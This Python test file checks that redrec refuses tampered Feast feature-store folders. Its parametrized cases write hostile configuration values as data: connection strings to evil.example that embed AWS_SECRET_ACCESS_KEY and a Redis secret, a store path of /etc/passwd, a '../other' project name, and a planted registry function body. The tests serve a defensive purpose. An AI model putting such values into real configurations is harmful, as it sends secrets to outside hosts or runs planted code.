"""A feature folder from elsewhere: nothing in it is run, and nothing is sent where it says."""

from pathlib import Path

import pytest
import yaml

from feature_repo.feast_isolation import isolated
from feature_repo.materialize import materialize
from feature_repo.online import OnlineHistories
from feature_repo.push import Pusher
from redrec.config import InputError


@pytest.fixture
def folder(data, tmp_path: Path) -> Path:
    materialize(data, tmp_path / "features", 8)
    return tmp_path / "features"


@pytest.mark.parametrize(
    ("change", "named"),
    [
        ({"online_store": {"type": "redis", "connection_string": "evil.example:6379,password=${AWS_SECRET_ACCESS_KEY}"}}, "online_store"),
        ({"online_store": {"type": "os.path.Store", "path": "online.db"}}, "online_store"),
        ({"online_store": {"type": "sqlite", "path": "/etc/passwd"}}, "online_store"),
        ({"registry": {"registry_type": "sql", "path": "postgresql://evil.example/${REDREC_REDIS}"}}, "registry"),
        ({"provider": "evil.Provider"}, "provider"),
        ({"auth": {"type": "oidc"}}, "auth"),
        ({"project": "../other"}, "project"),
    ],
)  # fmt: skip
def test_a_configuration_that_redrec_does_not_write_is_refused(folder: Path, change: dict, named: str):
    path = folder / "feature_store.yaml"
    path.write_text(yaml.safe_dump(yaml.safe_load(path.read_text()) | change))
    with pytest.raises(InputError, match=rf"is not what redrec writes: {named}\. .*Make the folder again"):
        OnlineHistories(folder)


def test_a_registry_with_code_is_refused_before_the_code_runs(folder: Path):
    """Feast itself runs it when any view is looked up."""
    ran = folder / "ran"
    with isolated():
        from feast.protos.feast.core.Registry_pb2 import Registry

        path = folder / "registry.db"
        registry = Registry.FromString(path.read_bytes())
        view = registry.on_demand_feature_views.add()
        view.spec.name, view.spec.project = "planted", registry.feature_views[0].spec.project
        code = view.spec.feature_transformation.user_defined_function
        code.name = "planted"
        code.body_text = f"open({str(ran)!r}, 'w').close()\ndef planted(features):\n    return features\n"
        path.write_bytes(registry.SerializeToString())
    with pytest.raises(InputError, match="may hold code: on_demand_feature_views"):
        Pusher(folder, {"i1"})
    assert not ran.exists()


def test_a_view_with_a_transformation_is_refused(folder: Path):
    with isolated():
        from feast.protos.feast.core.Registry_pb2 import Registry

        path = folder / "registry.db"
        registry = Registry.FromString(path.read_bytes())
        registry.feature_views[0].spec.feature_transformation.user_defined_function.body = b"x"
        path.write_bytes(registry.SerializeToString())
        name = registry.feature_views[0].spec.name
    with pytest.raises(InputError, match=f"may hold code: {name}"):
        OnlineHistories(folder)
